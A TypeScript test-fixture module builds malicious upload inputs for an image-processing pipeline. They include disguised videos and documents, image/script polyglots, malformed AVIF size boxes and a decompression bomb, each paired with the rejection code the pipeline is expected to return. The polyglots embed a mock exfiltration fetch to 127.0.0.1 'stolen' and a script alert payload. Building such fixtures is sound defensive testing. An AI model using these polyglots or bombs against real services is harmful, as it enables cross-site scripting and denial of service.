import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { Base } from './bases.ts';
import { type Hostile, hostile } from './hostile.ts';

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const PROSE = 'It was a dark and stormy night, and no picture was to be seen anywhere. ';
const zip = Buffer.concat([
  latin1('PK\x03\x04\x14\0\0\0\0\0'),
  latin1('[Content_Types].xml'.padEnd(200, '\0')),
]);
const pdf = latin1(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n${PROSE}\n%%EOF\n`);

/** Videos and documents: each is told what it is. */
const strangers: readonly Hostile[] = [
  hostile('video.mp4', latin1(`\0\0\0\x18ftypisom\0\0\x02\0isommp42${'\0'.repeat(200)}`), 'IMAGE_IS_VIDEO'),
  hostile('video.mov', latin1(`\0\0\0\x14ftypqt  \0\0\x02\0qt  ${'\0'.repeat(200)}`), 'IMAGE_IS_VIDEO'),
  hostile('video.3gp', latin1(`\0\0\0\x14ftyp3gp4\0\0\x02\x003gp4${'\0'.repeat(200)}`), 'IMAGE_IS_VIDEO'),
  hostile('old.mov', latin1(`\0\0\x10\0moov${'\0'.repeat(200)}`), 'IMAGE_IS_VIDEO'),
  hostile('video.webm', latin1(`\x1a\x45\xdf\xa3\x9fB\x86\x81\x01webm${'\0'.repeat(200)}`), 'IMAGE_IS_VIDEO'),
  hostile('video.avi', latin1(`RIFF\0\x10\0\0AVI LIST${'\0'.repeat(200)}`), 'IMAGE_IS_VIDEO'),
  hostile(
    'video.wmv',
    Buffer.concat([Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'), Buffer.alloc(200)]),
    'IMAGE_IS_VIDEO',
  ),
  hostile('video.flv', latin1(`FLV\x01\x05${'\0'.repeat(200)}`), 'IMAGE_IS_VIDEO'),
  hostile('video.mpg', latin1(`\0\0\x01\xba${'\0'.repeat(200)}`), 'IMAGE_IS_VIDEO'),
  hostile(
    'video.ts',
    Buffer.concat([0, 1, 2].map(() => Buffer.concat([Buffer.from([0x47]), Buffer.alloc(187)]))),
    'IMAGE_IS_VIDEO',
  ),
  hostile('video.jpg', latin1(`OggS${'\0'.repeat(200)}`), 'IMAGE_IS_VIDEO'),
  hostile('paper.pdf', pdf, 'IMAGE_IS_DOCUMENT'),
  hostile('paper.jpg', Buffer.concat([Buffer.alloc(500, 0x0a), pdf]), 'IMAGE_IS_DOCUMENT'),
  hostile('letter.docx', zip, 'IMAGE_IS_DOCUMENT'),
  hostile(
    'letter.doc',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    'IMAGE_IS_DOCUMENT',
  ),
  hostile('letter.rtf', latin1('{\\rtf1\\ansi hello}'), 'IMAGE_IS_DOCUMENT'),
  hostile('paper.ps', latin1('%!PS-Adobe-3.0\nshowpage'), 'IMAGE_IS_DOCUMENT'),
  hostile('page.png', latin1('\n<!DOCTYPE html><html><img src="x"></html>'), 'IMAGE_IS_DOCUMENT'),
  hostile('data.xml', latin1('<?xml version="1.0"?><data/>'), 'IMAGE_IS_DOCUMENT'),
  hostile('prose.jpg', latin1(PROSE.repeat(3)), 'IMAGE_IS_DOCUMENT'),
  hostile('unicode.jpg', Buffer.from('Ä'.repeat(4000)), 'IMAGE_IS_DOCUMENT'),
];

/** Two kinds in one file: it is what its first bytes say. */
function polyglots(bases: readonly Base[]): Hostile[] {
  const base = (name: string) => bases.find((one) => one.name === name)?.bytes ?? Buffer.alloc(0);
  const [jpeg, gif, png] = [base('jpeg'), base('gif-animated'), base('png')];
  const script = latin1('=1;fetch("http://127.0.0.1:9/stolen")/*');
  return [
    hostile('gif-and-script.js', Buffer.concat([gif, latin1('*/'), script]), 'processed'),
    hostile(
      'gif-whose-size-is-script.gif',
      Buffer.concat([latin1('GIF89a/*'), gif.subarray(8), latin1('*/=1;')]),
    ),
    hostile(
      'script-called-gif.gif',
      Buffer.concat([latin1('GIF89a'), script, Buffer.alloc(40)]),
      'IMAGE_CORRUPT',
      'IMAGE_TOO_MANY_PIXELS',
      'IMAGE_RATIO_TOO_HIGH',
    ),
    hostile('jpeg-and-zip.zip', Buffer.concat([jpeg, zip]), 'processed'),
    hostile('jpeg-and-pdf.pdf', Buffer.concat([jpeg, pdf]), 'processed'),
    hostile('pdf-and-jpeg.jpg', Buffer.concat([pdf, jpeg]), 'IMAGE_IS_DOCUMENT'),
    hostile('zip-and-png.png', Buffer.concat([zip, png]), 'IMAGE_IS_DOCUMENT'),
    hostile(
      'png-and-html.html',
      Buffer.concat([png, latin1('<html><script>alert(1)</script></html>')]),
      'processed',
    ),
    hostile('png-and-gzip.png', Buffer.concat([png, deflateSync(Buffer.alloc(50_000_000))]), 'processed'),
    hostile('jpeg-in-jpeg.jpg', Buffer.concat([jpeg.subarray(0, 400), jpeg])),
  ];
}

/** AVIF: the boxes that say how large it is. */
function hostileAvifs(bases: readonly Base[]): Hostile[] {
  const good = bases.find(({ name }) => name === 'avif')?.bytes ?? Buffer.alloc(0);
  const changed = (box: string, offset: number, ...values: number[]) => {
    const copy = Buffer.from(good);
    const at = copy.indexOf(box, 0, 'latin1') + 4 + offset;
    for (const [i, value] of values.entries()) copy.writeUInt32BE(value, at + 4 * i);
    return copy;
  };
  return [
    hostile(
      'avif-60000x60000.avif',
      changed('ispe', 4, 60_000, 60_000),
      'IMAGE_TOO_MANY_PIXELS',
      'IMAGE_CORRUPT',
    ),
    hostile('avif-7000x7000.avif', changed('ispe', 4, 7000, 7000)),
    hostile('avif-4294967295.avif', changed('ispe', 4, 0xffff_ffff, 0xffff_ffff)),
    hostile('avif-0x0.avif', changed('ispe', 4, 0, 0)),
    hostile('avif-box-of-4-gib.avif', changed('meta', -8, 0xffff_ffff), 'IMAGE_CORRUPT'),
    hostile('avif-box-of-1.avif', changed('iprp', -8, 1)),
    hostile('avif-items-outside.avif', changed('iloc', 8, 0xffff_ffff, 0xffff_ffff)),
    hostile(
      'avif-a-million-boxes.avif',
      Buffer.concat([good.subarray(0, good.readUInt32BE(0)), Buffer.alloc(8_000_000, '\0\0\0\x08free')]),
      'IMAGE_CORRUPT',
    ),
    hostile(
      'avif-boxes-in-boxes.avif',
      Buffer.concat([
        good.subarray(0, good.readUInt32BE(0)),
        ...Array.from({ length: 5000 }, (_, i) =>
          latin1(`\0\0${String.fromCharCode(((5000 - i) * 8) >> 8, ((5000 - i) * 8) & 255)}iprp`),
        ),
      ]),
      'IMAGE_CORRUPT',
    ),
  ];
}

/** Small and odd, and good all the same. */
async function odd(): Promise<Hostile[]> {
  const pixel = () => sharp({ create: { width: 1, height: 1, channels: 4, background: '#c638' } });
  const formats = ['jpeg', 'png', 'webp', 'gif', 'avif', 'tiff'] as const;
  const pixels = formats.map(async (format) =>
    hostile(`pixel.${format}`, await pixel().toFormat(format).toBuffer(), 'processed'),
  );
  const deep = sharp({ create: { width: 40, height: 30, channels: 3, background: '#c63' } });
  return [
    ...(await Promise.all(pixels)),
    hostile('tiff-16-bit.tiff', await deep.clone().toColourspace('rgb16').tiff().toBuffer(), 'processed'),
    hostile('tiff-cmyk.tiff', await deep.clone().toColourspace('cmyk').tiff().toBuffer(), 'processed'),
    hostile(
      'tiff-float.tiff',
      await deep.clone().toColourspace('scrgb').tiff({ compression: 'none' }).toBuffer(),
    ),
    hostile(
      'tiff-1-bit.tiff',
      await deep
        .clone()
        .toColourspace('b-w')
        .tiff({ bitdepth: 1, compression: 'none', predictor: 'none' })
        .toBuffer(),
      'processed',
    ),
    hostile(
      'avif-10-bit.avif',
      await deep.clone().toColourspace('rgb16').avif({ bitdepth: 10, effort: 0 }).toBuffer(),
      'processed',
    ),
    hostile('nothing.jpg', Buffer.alloc(0), 'IMAGE_EMPTY'),
    hostile('one-byte.jpg', Buffer.from([0xff]), 'FORMAT_UNKNOWN'),
    hostile('zeros.png', Buffer.alloc(100_000), 'FORMAT_UNKNOWN'),
    hostile('too-large.jpg', Buffer.alloc(33 * 1024 * 1024, 0xff), 'IMAGE_TOO_LARGE'),
    hostile(
      'drawing.png',
      latin1('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'),
      'FORMAT_NOT_ALLOWED',
    ),
    hostile(
      'bitmap.bmp',
      Buffer.concat([
        latin1('BM'),
        Buffer.from([70, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0]),
        Buffer.alloc(52),
      ]),
      'FORMAT_NOT_ALLOWED',
    ),
    hostile(
      'pixmap.jpg',
      Buffer.concat([latin1('P6\n50000 50000\n255\n'), Buffer.alloc(300)]),
      'FORMAT_UNKNOWN',
    ),
    hostile(
      'radiance.jpg',
      Buffer.concat([latin1('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 9 +X 9\n'), Buffer.alloc(324)]),
      'FORMAT_UNKNOWN',
    ),
  ];
}

/** What is neither cut nor patched from one of ours. */
export async function otherHostiles(bases: readonly Base[]): Promise<Hostile[]> {
  return [...strangers, ...polyglots(bases), ...hostileAvifs(bases), ...(await odd())];
}
